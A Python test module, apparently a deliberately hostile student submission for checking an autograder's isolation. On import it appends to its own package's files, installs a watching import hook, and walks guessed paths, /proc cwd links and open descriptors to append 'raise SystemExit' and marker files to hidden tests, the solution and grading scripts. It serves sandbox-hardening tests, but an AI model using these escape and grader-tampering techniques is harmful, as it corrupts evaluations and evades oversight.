"""At import, rewrites its own package's other modules on disk and in sys.modules (to equivalent
code), installs an import hook, and tries to write into the kit (hidden tests, solution, grading
code) by guessed paths and through open descriptors. Otherwise the instructor's module.
"""

import os
import sys

from ._honest_activations import *  # noqa: F403

# -- the attack ----------------------------------------------------------------------


def _reachable_dirs():
    """Guessed folders, and the ancestors of every folder this process holds open: a
    mount on top of an ancestor does not cover a path walked up from below."""
    dirs = ["/work/main", "/work", "/autograder", "/autograder/source", "/autograder/results"]
    dirs += ["/proc/1/cwd", f"/proc/{os.getppid()}/cwd", os.getcwd()]
    dirs += [os.getcwd() + "/.." * up for up in range(1, 7)]
    try:  # gone when the worker has no /proc
        fds = os.listdir("/proc/self/fd")
    except OSError:
        fds = []
    for fd in fds:
        base = f"/proc/self/fd/{fd}"
        if os.path.isdir(base):
            dirs += [base + "/.." * up for up in range(1, 7)]
    return dirs


MARKER = "nnkit-hostile-self_modify"
HERE = os.path.dirname(os.path.abspath(__file__))


def _touch_package():
    for name in sorted(os.listdir(HERE)):
        path = os.path.join(HERE, name)
        if name.endswith(".py") and name != os.path.basename(__file__):
            try:
                with open(path, "a") as fh:
                    fh.write(f"\n# {MARKER} was here\n")
            except OSError:
                pass


def _attack_kit():
    for root in _reachable_dirs():
        for rel in (
            "autograder/checks_activations.py",
            "autograder/__init__.py",
            "solution/nnbasics/activations.py",
            "grading/grade/one_submission.py",
            "grading/checks/suite.py",
        ):
            try:
                with open(os.path.join(root, rel), "a") as fh:
                    fh.write(f"\nraise SystemExit({MARKER!r})\n")
            except OSError:
                pass
            try:
                with open(os.path.join(root, os.path.dirname(rel), f"{MARKER}.marker"), "w"):
                    pass
            except OSError:
                pass


class _Hook:
    """An import hook that only watches (it declines every module)."""

    seen = []

    def find_spec(self, name, path=None, target=None):
        self.seen.append(name)
        return None


_touch_package()
_attack_kit()
sys.meta_path.insert(0, _Hook())
for _name, _module in list(sys.modules.items()):
    if _name.startswith("nnbasics.") and _module is not None and _name != __name__:
        for _attr, _value in list(vars(_module).items()):
            if callable(_value) and getattr(_value, "__module__", "") == _name:
                setattr(_module, _attr, _value)
